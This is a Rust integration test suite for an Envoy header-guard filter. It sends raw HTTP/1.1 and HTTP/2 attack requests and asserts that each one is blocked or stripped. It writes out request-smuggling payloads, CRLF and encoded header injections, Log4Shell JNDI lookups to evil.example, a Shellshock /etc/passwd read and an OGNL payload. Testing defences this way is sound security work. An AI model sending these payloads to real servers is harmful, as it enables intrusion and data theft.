//! Header injection and request-smuggling attacks against a real Envoy with header-guard.
//!
//! Every request is raw HTTP/1.1 bytes over TCP (client libraries refuse to send these). Each
//! test asserts the exact status, that the upstream saw nothing, and which layer stopped it:
//! - `by_codec`: Envoy's HTTP/1 codec answered with its own plain-text body and header-guard
//!   never ran (none of its counters moved);
//! - `by_header_guard`: a portcullis problem+json with the `header_guard.*` code, counted.
//!
//! The attack table in docs/header-guard.md is this file's results.

mod support;

use serde_json::json;
use support::*;

fn start() -> Envoy {
    envoy().wasm("header-guard", "{}").start()
}

fn start_with(policy: &str) -> Envoy {
    envoy().wasm("header-guard", policy).start()
}

/// Every `portcullis_requests_total` series of header-guard, summed: did it see the request?
fn header_guard_total(e: &Envoy) -> u64 {
    let text = e.admin_get("/stats/prometheus").text();
    text.lines()
        .filter(|l| {
            l.starts_with("portcullis_requests_total{") && l.contains(r#"module="header_guard""#)
        })
        .filter_map(|l| l.rsplit(' ').next()?.parse::<u64>().ok())
        .sum()
}

fn get_with(header_lines: &str) -> Vec<u8> {
    format!(
        "GET /orders HTTP/1.1\r\nhost: api.example.com\r\n{header_lines}connection: close\r\n\r\n"
    )
    .into_bytes()
}

/// Envoy's codec refused it: its own status and plain body, header-guard never ran.
fn by_codec(e: &Envoy, raw: &[u8], status: u16, body: &str) {
    let r = e.raw(raw);
    assert_eq!(r.status, status, "{}", r.text());
    assert_ne!(
        r.header("content-type"),
        Some("application/problem+json"),
        "{r:?}"
    );
    assert_eq!(r.text(), body);
    assert_eq!(header_guard_total(e), 0, "header-guard saw the request");
    assert!(e.upstream_seen().is_empty(), "{:?}", e.upstream_seen());
}

/// header-guard refused it: problem+json with the code, counted, the upstream saw nothing.
fn by_header_guard(e: &Envoy, raw: &[u8], status: u16, code: &str) {
    let before = e.counter("header_guard", "denied", code);
    e.raw(raw).assert_problem(status, code);
    assert_eq!(e.counter("header_guard", "denied", code), before + 1);
    assert!(e.upstream_seen().is_empty(), "{:?}", e.upstream_seen());
}

// ---- Request smuggling (RFC 9112 §6.1, §6.3) ----

#[test]
fn cl_te_is_400_by_envoy_codec() {
    let e = start();
    let raw = b"POST / HTTP/1.1\r\nhost: x\r\ncontent-length: 6\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n0\r\n\r\nG";
    by_codec(&e, raw, 400, "Bad Request");
}

#[test]
fn te_cl_is_400_by_envoy_codec() {
    let e = start();
    let raw = b"POST / HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\ncontent-length: 3\r\nconnection: close\r\n\r\n8\r\nSMUGGLED\r\n0\r\n\r\n";
    by_codec(&e, raw, 400, "Bad Request");
}

#[test]
fn te_te_obfuscations_are_501_by_envoy_codec() {
    for te in [
        "transfer-encoding: xchunked\r\n",
        "transfer-encoding: chunked, identity\r\n",
        "transfer-encoding: identity, chunked\r\n",
        "transfer-encoding: gzip, chunked\r\n",
        "transfer-encoding: chunked\r\ntransfer-encoding: x\r\n",
    ] {
        let e = start();
        let raw = format!("POST / HTTP/1.1\r\nhost: x\r\n{te}connection: close\r\n\r\n0\r\n\r\n");
        by_codec(&e, raw.as_bytes(), 501, "Not Implemented");
    }
}

#[test]
fn te_with_a_space_before_the_colon_is_400_by_envoy_codec() {
    let e = start();
    let raw = b"POST / HTTP/1.1\r\nhost: x\r\ntransfer-encoding : chunked\r\nconnection: close\r\n\r\n0\r\n\r\n";
    by_codec(&e, raw, 400, "Bad Request");
}

#[test]
fn te_whitespace_and_case_variants_are_normalised_by_the_codec_and_framed_once() {
    // ` chunked`, `\tchunked`, `Chunked`: Envoy reads them as `chunked` and re-frames the body
    // for the upstream, so both sides agree: one request, the declared body, nothing smuggled.
    for te in [" chunked", "\tchunked", "Chunked"] {
        let e = start();
        let raw = format!("POST / HTTP/1.1\r\nhost: x\r\ntransfer-encoding:{te}\r\nconnection: close\r\n\r\n3\r\nabc\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nhost: x\r\n\r\n");
        assert_eq!(e.raw(raw.as_bytes()).status, 200);
        let seen = e.upstream_seen();
        assert_eq!(seen.len(), 1, "{te:?}: {seen:?}");
        assert_eq!(seen[0].body, "abc");
        assert_eq!(seen[0].path, "/");
        assert_eq!(e.counter("header_guard", "allowed", "ok"), 1);
    }
}

#[test]
fn duplicate_and_malformed_content_length_are_400_by_envoy_codec() {
    for cl in [
        "content-length: 3\r\ncontent-length: 3\r\n",
        "content-length: 3\r\ncontent-length: 4\r\n",
        "content-length: 3, 3\r\n",
        "content-length: +3\r\n",
        "content-length: -1\r\n",
        "content-length: 0x3\r\n",
    ] {
        let e = start();
        let raw = format!("POST / HTTP/1.1\r\nhost: x\r\n{cl}connection: close\r\n\r\nabcd");
        by_codec(&e, raw.as_bytes(), 400, "Bad Request");
    }
}

// ---- Header injection (RFC 9110 §5.5, RFC 9112 §5.2) ----

#[test]
fn nul_and_control_characters_are_400_by_envoy_codec() {
    for v in [&b"admin\0.evil"[..], b"a\x01b", b"a\x1b[31m", b"a\x7fb"] {
        let e = start();
        let mut raw = b"GET / HTTP/1.1\r\nhost: x\r\nx-user: ".to_vec();
        raw.extend_from_slice(v);
        raw.extend_from_slice(b"\r\nconnection: close\r\n\r\n");
        by_codec(&e, &raw, 400, "Bad Request");
    }
}

#[test]
fn a_bare_cr_is_dropped_by_envoy_codec_and_never_reaches_the_upstream() {
    // Envoy's codec (Balsa) removes a CR that is not followed by LF; the request goes on with
    // the remaining bytes. No CR reaches header-guard or the upstream.
    let e = start();
    assert_eq!(e.raw(&get_with("x-a: a\rset-cookie: x=1\r\n")).status, 200);
    let seen = e.upstream_seen();
    assert_eq!(seen[0].header("x-a"), Some("aset-cookie: x=1"));
    assert!(seen[0]
        .headers
        .iter()
        .all(|(k, v)| !k.contains('\r') && !v.contains('\r')));
}

#[test]
fn an_lf_injected_internal_header_is_a_separate_field_and_header_guard_strips_it() {
    // A bare LF ends the field line (RFC 9112 §2.2 allows it): `x-a: a\nx-internal-user: admin`
    // is two fields. Envoy forwards both; header-guard strips the internal one.
    let e = start();
    assert_eq!(
        e.raw(&get_with("x-a: a\nx-internal-user: admin\r\n"))
            .status,
        200
    );
    let seen = &e.upstream_seen()[0];
    assert_eq!(seen.header("x-a"), Some("a"));
    assert_eq!(seen.header("x-internal-user"), None);
}

#[test]
fn obs_fold_is_unfolded_by_envoy_codec_and_no_line_break_reaches_the_upstream() {
    // RFC 9112 §5.2 lets a server replace obs-fold with SP instead of a 400: Envoy's codec does
    // (CR LF removed, the SP kept). header-guard's obs-fold rule covers paths where no codec
    // unfolded it (unit tests); Envoy's header map refuses CR/LF from filters (test below).
    let e = start();
    assert_eq!(e.raw(&get_with("x-a: a\r\n b\r\n")).status, 200);
    assert_eq!(e.upstream_seen()[0].header("x-a"), Some("a b"));
}

#[test]
fn cr_lf_and_obs_fold_added_by_another_filter_are_400_by_header_guard() {
    // The other path: Envoy's header map accepts CR and LF from a filter (Lua here); only the
    // upstream HTTP/1 encoder would refuse them later (503 "invalid header value"), and an HTTP/2
    // or gRPC upstream, a log line or an ext_authz call may see them first. header-guard stops
    // them before anything leaves. (A NUL cannot be added: Lua strings end there.)
    let lua = json!({"name": "envoy.filters.http.lua", "typed_config": {
        "@type": "type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua",
        "default_source_code": {"inline_string": "function envoy_on_request(h)\n local hd = h:headers()\n local v = hd:get('x-case')\n if v == 'crlf' then hd:add('x-injected', 'a\\r\\nset-cookie: x=1') end\n if v == 'fold' then hd:add('x-injected', 'a\\r\\n b') end\nend"}
    }});
    let e = envoy()
        .native_filter(lua)
        .wasm("header-guard", "{}")
        .start();
    let crlf = get_with("x-case: crlf\r\n");
    by_header_guard(&e, &crlf, 400, "header_guard.invalid_value");
    let fold = get_with("x-case: fold\r\n");
    by_header_guard(&e, &fold, 400, "header_guard.obs_fold");
}

#[test]
fn invalid_field_names_are_400_by_envoy_codec() {
    for line in ["x a: b\r\n", "x(a): b\r\n", "x-a : b\r\n", "x\x01a: b\r\n"] {
        let e = start();
        by_codec(&e, &get_with(line), 400, "Bad Request");
    }
}

#[test]
fn encoded_crlf_response_splitting_is_400_by_header_guard() {
    let e = start();
    for line in [
        "x-request-id: abc%0d%0aset-cookie:%20session=evil\r\n",
        "referer: https://a.example/%0D%0ALocation:%20https://evil.example\r\n",
        "user-agent: ua\\r\\nx-injected: 1\r\n",
        "x-correlation-id: a%250d%250ab\r\n",
        "user-agent: a\u{2028}b\r\n",
        "origin: https://a.example%E2%80%A8x\r\n",
    ] {
        by_header_guard(&e, &get_with(line), 400, "header_guard.encoded_crlf");
    }
}

#[test]
fn duplicate_host_is_joined_by_envoy_codec_and_400_by_header_guard() {
    // Envoy joins repeated Host fields into `:authority: a,b`; header-guard refuses it.
    let e = start();
    let raw = b"GET / HTTP/1.1\r\nhost: api.example.com\r\nhost: evil.example\r\nconnection: close\r\n\r\n";
    by_header_guard(&e, raw, 400, "header_guard.duplicate");
}

#[test]
fn duplicate_authorization_and_content_type_are_400_by_header_guard() {
    let e = start();
    by_header_guard(
        &e,
        &get_with("authorization: Bearer user-token\r\nauthorization: Bearer admin-token\r\n"),
        400,
        "header_guard.duplicate",
    );
    by_header_guard(
        &e,
        &get_with("content-type: application/json\r\ncontent-type: text/xml\r\n"),
        400,
        "header_guard.duplicate",
    );
}

#[test]
fn host_with_userinfo_is_400_by_header_guard() {
    let e = start();
    let raw = b"GET / HTTP/1.1\r\nhost: api.example.com@evil.example\r\nconnection: close\r\n\r\n";
    by_header_guard(&e, raw, 400, "header_guard.bad_host");
}

#[test]
fn log4shell_shellshock_and_ognl_are_400_by_header_guard() {
    let e = start();
    for line in [
        "user-agent: ${jndi:ldap://evil.example/a}\r\n",
        "x-api-version: ${${lower:j}ndi:rmi://evil.example/a}\r\n",
        "user-agent: () { :; }; /bin/cat /etc/passwd\r\n",
        "content-type: %{(#_='multipart/form-data').(#cmd='id')}\r\n",
    ] {
        by_header_guard(&e, &get_with(line), 400, "header_guard.denied_pattern");
    }
}

#[test]
fn an_invalid_referer_is_removed_by_envoy_before_any_filter() {
    // Measured: Envoy drops a Referer that is not a valid URI (here a Shellshock payload) before
    // the filters run; the request goes on without it.
    let e = start();
    assert_eq!(
        e.raw(&get_with("referer: () { :; }; /bin/id\r\n")).status,
        200
    );
    assert_eq!(e.upstream_seen()[0].header("referer"), None);
    assert_eq!(e.counter("header_guard", "allowed", "ok"), 1);
}

#[test]
fn underscore_spoofing_for_cgi_backends_is_stripped_by_header_guard() {
    // Envoy forwards `x_forwarded_host` (headers_with_underscores_action: ALLOW by default);
    // CGI/PHP/WSGI read it as X-Forwarded-Host.
    let e = start();
    assert_eq!(
        e.raw(&get_with(
            "x_forwarded_host: evil.example\r\nx_jwt_sub: admin\r\n"
        ))
        .status,
        200
    );
    let seen = &e.upstream_seen()[0];
    assert_eq!(seen.header("x_forwarded_host"), None);
    assert_eq!(seen.header("x_jwt_sub"), None);
}

// ---- Oversize (RFC 6585 §5: 431) ----

fn many_fields(n: usize) -> Vec<u8> {
    let lines: String = (0..n).map(|i| format!("x-h{i}: v\r\n")).collect();
    get_with(&lines)
}

#[test]
fn more_than_100_fields_is_431_by_envoy_codec() {
    // Envoy's max_headers_count (default 100) counts what the client sent.
    let e = start();
    by_codec(
        &e,
        &many_fields(101),
        431,
        "Request Header Fields Too Large",
    );
}

#[test]
fn more_than_60_kib_of_headers_is_431_by_envoy_codec() {
    // Envoy's max_request_headers_kb (default 60).
    let e = start();
    let raw = get_with(&format!("x-big: {}\r\n", "a".repeat(70 * 1024)));
    by_codec(&e, &raw, 431, "Request Header Fields Too Large");
}

#[test]
fn a_value_over_max_value_bytes_is_431_by_header_guard() {
    // Envoy has no per-value limit: a 10 KiB value passes its codec.
    let e = start();
    let raw = get_with(&format!("cookie: {}\r\n", "a".repeat(10 * 1024)));
    by_header_guard(&e, &raw, 431, "header_guard.value_too_long");
}

#[test]
fn a_name_over_max_name_bytes_is_431_by_header_guard() {
    let e = start();
    let raw = get_with(&format!("x-{}: v\r\n", "n".repeat(300)));
    by_header_guard(&e, &raw, 431, "header_guard.name_too_long");
}

#[test]
fn stricter_count_and_total_limits_are_431_by_header_guard() {
    let e = start_with(r#"{"default": {"limits": {"max_headers": 20, "max_total_bytes": 4096}}}"#);
    by_header_guard(&e, &many_fields(30), 431, "header_guard.too_many_headers");
    let lines: String = (0..5)
        .map(|i| format!("x-h{i}: {}\r\n", "a".repeat(1000)))
        .collect();
    by_header_guard(&e, &get_with(&lines), 431, "header_guard.headers_too_large");
    // Under the limits: passes, and the envoy-added fields count too (3 of the 20).
    assert_eq!(e.raw(&many_fields(15)).status, 200);
}

// ---- The same attacks over HTTP/2 (h2c, prior knowledge: Envoy's listener codec is AUTO) ----

/// HPACK integer (RFC 7541 §5.1).
fn hpack_int(out: &mut Vec<u8>, prefix_bits: u8, mut n: usize) {
    let max = (1usize << prefix_bits) - 1;
    if n < max {
        out.push(n as u8);
        return;
    }
    out.push(max as u8);
    n -= max;
    while n >= 128 {
        out.push((n % 128 + 128) as u8);
        n /= 128;
    }
    out.push(n as u8);
}

fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let l = payload.len();
    let mut f = vec![(l >> 16) as u8, (l >> 8) as u8, l as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// One HTTP/2 GET with these extra fields, each sent as an HPACK literal exactly as given (no
/// client library would send most of them). Returns the response's DATA, or `None` when Envoy
/// answered with no frames at all (its codec dropped the connection).
fn h2_get(e: &Envoy, fields: &[(&str, &[u8])]) -> Option<String> {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(e.listener).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(5)))
        .unwrap();
    let mut block = Vec::new();
    let pseudo: [(&str, &[u8]); 4] = [
        (":method", b"GET"),
        (":scheme", b"http"),
        (":path", b"/orders"),
        (":authority", b"api.example.com"),
    ];
    for (k, v) in pseudo.iter().chain(fields) {
        block.push(0); // literal without indexing, new name
        hpack_int(&mut block, 7, k.len());
        block.extend_from_slice(k.as_bytes());
        hpack_int(&mut block, 7, v.len());
        block.extend_from_slice(v);
    }
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    out.extend(h2_frame(4, 0, 0, &[]));
    out.extend(h2_frame(1, 0x05, 1, &block)); // END_STREAM | END_HEADERS
    s.write_all(&out).unwrap();
    let (mut buf, mut data, mut frames) = (Vec::new(), Vec::new(), 0);
    let mut chunk = [0u8; 16384];
    loop {
        match s.read(&mut chunk) {
            Ok(0) | Err(_) => break,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
        while buf.len() >= 9 {
            let len = (buf[0] as usize) << 16 | (buf[1] as usize) << 8 | buf[2] as usize;
            if buf.len() < 9 + len {
                break;
            }
            let (kind, flags) = (buf[3], buf[4]);
            let payload: Vec<u8> = buf.drain(..9 + len).skip(9).collect();
            frames += 1;
            match kind {
                4 if flags & 1 == 0 => s.write_all(&h2_frame(4, 1, 0, &[])).unwrap(),
                0 => {
                    data.extend_from_slice(&payload);
                    if flags & 1 != 0 {
                        return Some(String::from_utf8_lossy(&data).into_owned());
                    }
                }
                1 if flags & 1 != 0 => return Some(String::new()),
                3 | 7 => return Some(String::new()),
                _ => {}
            }
        }
    }
    (frames > 0).then(|| String::from_utf8_lossy(&data).into_owned())
}

#[test]
fn http2_codec_refuses_cr_lf_nul_ctl_upper_case_names_te_and_bad_content_length() {
    // RFC 9113 §8.2.1 / §8.2.2: Envoy's HTTP/2 codec drops the connection; header-guard never
    // runs, the upstream sees nothing.
    for (name, value) in [
        ("x-a", &b"a\r\nset-cookie: x=1"[..]),
        ("x-a", b"a\r\n b"),
        ("x-a", b"a\0b"),
        ("x-a", b"a\x01b"),
        ("X-Upper", b"b"),
        ("transfer-encoding", b"chunked"),
        ("content-length", b"abc"),
    ] {
        let e = start();
        // Measured: no frame at all comes back (a GOAWAY or reset would also do).
        let r = h2_get(&e, &[(name, value)]);
        assert!(
            r.as_deref().is_none_or(str::is_empty),
            "{name}: {value:?}: {r:?}"
        );
        assert_eq!(header_guard_total(&e), 0);
        assert!(e.upstream_seen().is_empty());
    }
}

#[test]
fn http2_requests_get_the_same_header_guard_checks() {
    let e = start();
    let plain = h2_get(&e, &[("accept", b"*/*")]).unwrap();
    assert!(plain.contains("\"path\": \"/orders\""), "{plain}");
    // HTTP/2 keeps repeated fields apart (no joining): header-guard counts them.
    for (fields, code) in [
        (
            vec![
                ("authorization", &b"Bearer a"[..]),
                ("authorization", b"Bearer b"),
            ],
            "header_guard.duplicate",
        ),
        (
            vec![("content-type", b"a/b"), ("content-type", b"c/d")],
            "header_guard.duplicate",
        ),
        (
            vec![("user-agent", b"${jndi:ldap://evil.example/a}")],
            "header_guard.denied_pattern",
        ),
        (
            vec![("x-request-id", b"a%0d%0aset-cookie:x=1")],
            "header_guard.encoded_crlf",
        ),
        (
            vec![("cookie", &[b'a'; 9000][..])],
            "header_guard.value_too_long",
        ),
    ] {
        let body = h2_get(&e, &fields).unwrap();
        assert!(
            body.contains(&format!("\"code\":\"{code}\"")),
            "{fields:?}: {body}"
        );
    }
    assert_eq!(
        e.upstream_seen().len(),
        1,
        "only the plain request reached the upstream"
    );
    // Spoofed, internal and underscore-variant headers are stripped as over HTTP/1.
    let r = h2_get(
        &e,
        &[
            ("x-internal-user", b"admin"),
            ("x-forwarded-host", b"evil"),
            ("x_jwt_sub", b"admin"),
        ],
    )
    .unwrap();
    assert!(r.contains("\"path\": \"/orders\""), "{r}");
    let seen = &e.upstream_seen()[1];
    for h in ["x-internal-user", "x-forwarded-host", "x_jwt_sub"] {
        assert_eq!(seen.header(h), None, "{h}");
    }
}
